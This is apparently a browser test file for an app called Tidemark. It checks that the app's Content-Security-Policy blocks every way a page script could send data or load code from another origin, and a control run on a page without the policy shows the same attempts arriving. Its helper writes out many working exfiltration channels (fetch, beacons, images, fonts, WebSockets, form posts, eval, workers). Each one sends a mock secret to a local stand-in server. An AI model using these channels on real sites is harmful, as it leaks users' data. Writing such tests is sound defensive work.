// The data boundary in the browser: whatever a script on a Tidemark page tries, nothing reaches another origin.
// The test starts a second HTTP server on another loopback port: another origin, since W3C CSP Level 3's "Does url
// match expression in origin with redirect count?" matches 'self' on scheme, host and port. That server welcomes
// everything (CORS open, answers every path), so only the page's Content-Security-Policy can stop a request. It
// counts what it receives; a positive control from a page of its own, which has no CSP, proves that the same
// attempts do arrive when nothing stops them.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { appUrl, artifactsDir, launchBrowser } from '../helpers/browser';
import { openWorkspace, signInAs, demoPerson } from '../helpers/workspace';

interface Hit {
  method: string;
  url: string;
}

let browser: Browser;
let close: () => Promise<void>;
let other: http.Server;
let otherOrigin: string;
const hits: Hit[] = [];

const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

beforeAll(async () => {
  ({ browser, close } = await launchBrowser());
  fs.mkdirSync(artifactsDir, { recursive: true });
  other = http.createServer((req, res) => {
    hits.push({ method: req.method ?? '?', url: req.url ?? '?' });
    req.resume();
    const url = req.url ?? '/';
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'cross-origin-resource-policy': 'cross-origin' };
    if (url.startsWith('/control')) {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end('<!doctype html><title>control</title><p>A page of the other origin, without a CSP.</p>');
    } else if (url.includes('.png') || url.startsWith('/img')) {
      res.writeHead(200, { ...cors, 'content-type': 'image/png' });
      res.end(PNG_1X1);
    } else if (url.includes('.js') || url.startsWith('/worker') || url.startsWith('/script')) {
      res.writeHead(200, { ...cors, 'content-type': 'text/javascript' });
      res.end('self.__fromOther = true;');
    } else if (url.includes('.css')) {
      res.writeHead(200, { ...cors, 'content-type': 'text/css' });
      res.end('body { outline: 1px solid red }');
    } else {
      res.writeHead(200, { ...cors, 'content-type': 'text/plain' });
      res.end('ok');
    }
  });
  // A WebSocket handshake is an HTTP upgrade request: count it too.
  other.on('upgrade', (req, socket) => {
    hits.push({ method: `${req.method ?? '?'} (upgrade)`, url: req.url ?? '?' });
    socket.destroy();
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  expect(new URL(otherOrigin).origin).not.toBe(new URL(appUrl).origin);
});
afterAll(async () => {
  await close();
  await new Promise<void>((resolve) => other.close(() => resolve()));
});

interface Violation {
  directive: string;
  blocked: string;
  disposition: string;
  /** Where the refused thing was asked for, for a message that names the culprit. */
  source: string;
}

/** A fresh context whose pages record every `securitypolicyviolation` event and every console CSP message. */
async function watchedContext(): Promise<{ context: BrowserContext; consoleCsp: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
  // Playwright injects init scripts through the DevTools protocol, outside the page's CSP.
  await context.addInitScript(() => {
    const seen: { directive: string; blocked: string; disposition: string; source: string }[] = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition, source: `${e.sourceFile}:${e.lineNumber}:${e.columnNumber}` }),
    );
  });
  const consoleCsp: string[] = [];
  context.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
  });
  return { context, consoleCsp };
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations.slice());

/**
 * Every way we know for a script on the page to send bytes to `target` or to run code the page did not ship. Each
 * returns what the page saw; the server's count is the verdict.
 */
async function tryEverything(page: Page, target: string): Promise<Record<string, string>> {
  const seen = await page.evaluate(async (target) => {
    const out: Record<string, string> = {};
    const settle = (ms: number) => new Promise((r) => setTimeout(r, ms));
    const attempt = async (name: string, fn: () => Promise<string> | string) => {
      try {
        out[name] = await fn();
      } catch (error) {
        out[name] = `threw ${error instanceof Error ? `${error.name}: ${error.message}` : String(error)}`;
      }
    };
    const w = window as unknown as Record<string, unknown>;
    const secret = 'Ann_Example 02-MAY-1951';

    await attempt('fetch', async () => (await fetch(`${target}/fetch?d=${encodeURIComponent(secret)}`, { method: 'POST', body: secret, mode: 'no-cors' })).type);
    await attempt('xhr', () => new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.open('POST', `${target}/xhr`);
      x.onload = () => resolve(`loaded ${x.status}`);
      x.onerror = () => resolve('error');
      x.send(secret);
    }));
    await attempt('sendBeacon', () => String(navigator.sendBeacon(`${target}/beacon`, secret)));
    await attempt('img', () => new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('error');
      img.src = `${target}/img.png?d=${encodeURIComponent(secret)}`;
      document.body.append(img);
    }));
    await attempt('css-background', async () => {
      const div = document.createElement('div');
      div.style.backgroundImage = `url("${target}/bg.png")`;
      div.style.width = div.style.height = '10px';
      document.body.append(div);
      await settle(300);
      return 'appended';
    });
    await attempt('stylesheet', () => new Promise((resolve) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${target}/sheet.css`;
      link.onload = () => resolve('loaded');
      link.onerror = () => resolve('error');
      document.head.append(link);
    }));
    await attempt('font', async () => {
      const face = new FontFace('Elsewhere', `url("${target}/font.woff2")`);
      await face.load();
      return 'loaded';
    });
    await attempt('websocket', () => new Promise((resolve) => {
      const ws = new WebSocket(target.replace('http', 'ws') + '/ws');
      ws.onopen = () => resolve('open');
      ws.onerror = () => resolve('error');
    }));
    await attempt('eventsource', () => new Promise((resolve) => {
      const es = new EventSource(`${target}/events`);
      es.onerror = () => {
        es.close();
        resolve('error');
      };
      es.onopen = () => resolve('open');
    }));
    await attempt('iframe', async () => {
      const frame = document.createElement('iframe');
      frame.src = `${target}/frame`;
      document.body.append(frame);
      await settle(300);
      return 'appended';
    });
    await attempt('inline-script', async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true;';
      document.body.append(s);
      await settle(50);
      return w.__inlineRan === true ? 'ran' : 'did not run';
    });
    await attempt('inline-handler', async () => {
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      img.src = 'data:,not-an-image';
      document.body.append(img);
      await settle(200);
      return w.__handlerRan === true ? 'ran' : 'did not run';
    });
    await attempt('script-src-other', () => new Promise((resolve) => {
      const s = document.createElement('script');
      s.src = `${target}/script.js`;
      s.onload = () => resolve('loaded');
      s.onerror = () => resolve('error');
      document.body.append(s);
    }));
    await attempt('eval', () => String(eval('1 + 1')));
    await attempt('new-Function', () => String(new Function('return 2')()));
    await attempt('worker-data-url', () => new Promise((resolve) => {
      const worker = new Worker('data:text/javascript,postMessage("ran")');
      worker.onmessage = () => resolve('ran');
      worker.onerror = () => resolve('error');
      setTimeout(() => resolve('no answer'), 1000);
    }));
    await attempt('worker-other-origin', () => new Promise((resolve) => {
      const worker = new Worker(`${target}/worker.js`);
      worker.onmessage = () => resolve('ran');
      worker.onerror = () => resolve('error');
      setTimeout(() => resolve('no answer'), 1000);
    }));
    await attempt('blob-worker-fetching-out', () => new Promise((resolve) => {
      // A worker from blob: may run (worker-src 'self' blob:) but inherits the page's policy (CSP Level 3: a blob: worker's policy list is its creator's), so it
      // cannot reach the other origin either.
      const code = `fetch(${JSON.stringify(`${target}/from-worker`)}, { mode: 'no-cors' }).then(() => postMessage('sent'), (e) => postMessage('blocked ' + e.message));`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      worker.onmessage = (e) => resolve(String(e.data));
      worker.onerror = () => resolve('error');
      setTimeout(() => resolve('no answer'), 2000);
    }));
    await settle(1000);
    return out;
  }, target);
  // import() is passed as source text: Vitest rewrites an import() written in this file into its own loader.
  seen['dynamic-import-other'] = await page.evaluate(
    `import(${JSON.stringify(`${target}/module.js`)}).then(() => 'imported', (e) => 'threw ' + e.name + ': ' + e.message)`,
  );
  return seen;
}

/**
 * A form posted to `target` (kept apart: where nothing blocks it, the page navigates away). Returns whether the page
 * is still where it was.
 */
async function tryFormPost(page: Page, target: string): Promise<'stayed' | 'navigated away'> {
  const before = page.url();
  try {
    await page.evaluate((target) => {
      const form = document.createElement('form');
      form.action = `${target}/form`;
      form.method = 'post';
      const input = document.createElement('input');
      input.name = 'd';
      input.value = 'Ann_Example 02-MAY-1951';
      form.append(input);
      document.body.append(form);
      form.submit();
    }, target);
  } catch {
    // The page navigated while the call returned.
  }
  await page.waitForTimeout(1000);
  return page.url() === before ? 'stayed' : 'navigated away';
}

/** Blocked outcomes the page can see for each attempt (the server's count is checked separately). */
function expectAllBlocked(seen: Record<string, string>) {
  expect(seen.fetch).toMatch(/^threw TypeError/);
  expect(seen.xhr).toBe('error');
  // sendBeacon() only queues the request (W3C Beacon), so it may answer true; the fetch it queues is refused by
  // connect-src (checked by the violation naming /beacon and by the server's count).
  expect(['true', 'false']).toContain(seen.sendBeacon);
  expect(seen.img).toBe('error');
  expect(seen.stylesheet).toBe('error');
  expect(seen.font).toMatch(/^threw/);
  expect(seen.websocket).toMatch(/^(error|threw)/);
  expect(seen.eventsource).toMatch(/^(error|threw)/);
  expect(seen['inline-script']).toBe('did not run');
  expect(seen['inline-handler']).toBe('did not run');
  expect(seen['script-src-other']).toBe('error');
  expect(seen['dynamic-import-other']).toMatch(/^threw/);
  expect(seen.eval).toMatch(/^threw EvalError/);
  expect(seen['new-Function']).toMatch(/^threw EvalError/);
  expect(seen['worker-data-url']).not.toBe('ran');
  expect(seen['worker-other-origin']).not.toBe('ran');
  expect(seen['blob-worker-fetching-out']).toMatch(/^blocked/);
}

/** Every request the attempts would send, each of which must come back as a violation naming it. */
const BLOCKED_PATHS = ['/fetch', '/xhr', '/beacon', '/img.png', '/bg.png', '/sheet.css', '/font.woff2', '/ws', '/events', '/frame', '/form', '/script.js', '/module.js', '/from-worker'];

function expectViolationsFor(found: Violation[]) {
  const blocked = found.map((v) => v.blocked);
  for (const p of BLOCKED_PATHS.filter((p) => p !== '/from-worker')) {
    // Chromium names a refused frame navigation by its origin only.
    const named = (b: string) => (p === '/frame' ? b === otherOrigin : b.startsWith(otherOrigin.replace('http', p === '/ws' ? 'ws' : 'http')) && new URL(b).pathname === p);
    expect(blocked.some(named), `${p} in ${JSON.stringify(blocked)}`).toBe(true);
  }
}

/** The directives the policy names in the violation reports the page received. */
const REQUIRED_DIRECTIVES = ['connect-src', 'img-src', 'style-src-elem', 'font-src', 'frame-src', 'form-action', 'script-src-elem', 'script-src-attr', 'script-src', 'worker-src'];

describe('Content-Security-Policy: nothing leaves for another origin', () => {
  it('the other server counts what reaches it, and a page of its own (no CSP) does reach it: the positive control', async () => {
    const { context } = await watchedContext();
    const page = await context.newPage();
    hits.length = 0;
    await page.goto(`${otherOrigin}/control`);
    const seen = await tryEverything(page, otherOrigin);
    expect(await tryFormPost(page, otherOrigin)).toBe('navigated away');
    await context.close();
    const paths = new Set(hits.map((h) => h.url.split('?')[0]));
    // Without a policy the same attempts arrive: fetch, XHR, beacon, image, form post, script, worker.
    for (const p of ['/fetch', '/xhr', '/beacon', '/img.png', '/form', '/script.js', '/worker.js']) expect(paths, p).toContain(p);
    expect(seen['inline-script']).toBe('ran');
    expect(seen.eval).toBe('2');
    expect(seen['dynamic-import-other']).toBe('imported');
  });

  it('blocks fetch, XHR, beacon, image, CSS, font, WebSocket, EventSource, frame, form post, inline and foreign scripts, eval and foreign workers on a signed-in page', async () => {
    const { context, consoleCsp } = await watchedContext();
    const page = await context.newPage();
    await signInAs(page, demoPerson('analyst'));
    const teamPage = page.url();
    expect(await violations(page)).toEqual([]);
    hits.length = 0;
    const seen = await tryEverything(page, otherOrigin);
    expect(await tryFormPost(page, otherOrigin)).toBe('stayed');
    expect(page.url()).toBe(teamPage);
    expect(hits, JSON.stringify(hits)).toEqual([]);
    expectAllBlocked(seen);
    expectViolationsFor(await violations(page));
    const directives = new Set((await violations(page)).map((v) => v.directive));
    for (const d of REQUIRED_DIRECTIVES) expect([...directives], d).toContain(d);
    expect((await violations(page)).every((v) => v.disposition === 'enforce')).toBe(true);
    expect(consoleCsp.length).toBeGreaterThan(0);
    await context.close();
  });

  it('keeps the workspace working under the policy (workers from self and blob:, fonts, canvas maps, PNG export) with no violation, and blocks every attempt there too', async () => {
    const { context, consoleCsp } = await watchedContext();
    const page = await context.newPage();
    await openWorkspace(page, 'analyst', '?testhooks');
    await page.waitForFunction(() => window.__tidemark !== undefined);
    const loaded = await page.evaluate(() => window.__tidemark!.loadDemo({ seconds: 30, channels: ['Fz', 'Cz'], epochStart: -0.5, epochEnd: 1.5 }));
    expect(loaded.settingsError).toBeNull();

    // Decompose in the worker pool (module workers from this origin).
    await page.getByRole('tab', { name: 'Recipe' }).click();
    await page.getByTestId('recipe-fcount').fill('8');
    await page.getByTestId('recipe-run').click();
    await page.waitForFunction(() => document.querySelector('[data-testid="recipe-status"]')?.getAttribute('data-status') === 'done', undefined, { timeout: 60_000 });

    // The maps draw, and "Export PNG" hands over a real PNG through a blob: URL (PNG signature, RFC 2083 §3.1).
    await page.getByRole('tab', { name: 'Maps' }).click();
    await page.getByTestId('map-normalized').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-png').click()]);
    const file = path.join(artifactsDir, `csp-${download.suggestedFilename()}`);
    await download.saveAs(file);
    expect([...fs.readFileSync(file).subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    // "Export SVG" (its embedded type faces load as script chunks from this origin) and "Export CSV" too.
    for (const [testId, start] of [['export-svg', '<?xml'], ['export-csv', '# Tidemark']] as const) {
      const [made] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testId).click()]);
      const saved = path.join(artifactsDir, `csp-${made.suggestedFilename()}`);
      await made.saveAs(saved);
      expect(fs.readFileSync(saved, 'utf8').startsWith(start), testId).toBe(true);
    }

    // Both type faces came from this origin and loaded; the favicon (an image from 'self') too.
    const fonts = await page.evaluate(async () => {
      await document.fonts.ready;
      return [...document.fonts].filter((f) => f.status === 'loaded').map((f) => f.family.replace(/"/g, ''));
    });
    expect(fonts).toContain('Inter Variable');
    expect(fonts).toContain('JetBrains Mono Variable');
    const favicon = await page.evaluate(async () => {
      const img = new Image();
      img.src = '/favicon.svg';
      await img.decode();
      return img.naturalWidth;
    });
    expect(favicon).toBeGreaterThan(0);
    // A worker from blob: is allowed and runs.
    const blobWorker = await page.evaluate(() => new Promise<string>((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("from blob")'], { type: 'text/javascript' })));
      worker.onmessage = (e) => resolve(String(e.data));
      worker.onerror = () => resolve('error');
    }));
    expect(blobWorker).toBe('from blob');

    // Everything legitimate above ran without a single violation.
    expect(await violations(page)).toEqual([]);
    expect(consoleCsp).toEqual([]);
    await page.screenshot({ path: path.join(artifactsDir, 'csp-workspace-maps.png') });

    hits.length = 0;
    const seen = await tryEverything(page, otherOrigin);
    expect(await tryFormPost(page, otherOrigin)).toBe('stayed');
    expect(hits, JSON.stringify(hits)).toEqual([]);
    expectAllBlocked(seen);
    expect(new Set((await violations(page)).map((v) => v.directive))).toEqual(new Set(REQUIRED_DIRECTIVES));
    // The open recording is still open: the attempts changed nothing.
    expect(await page.evaluate(() => window.__tidemark!.stores.workspace.getState().recording !== null)).toBe(true);
    await context.close();
  });
});
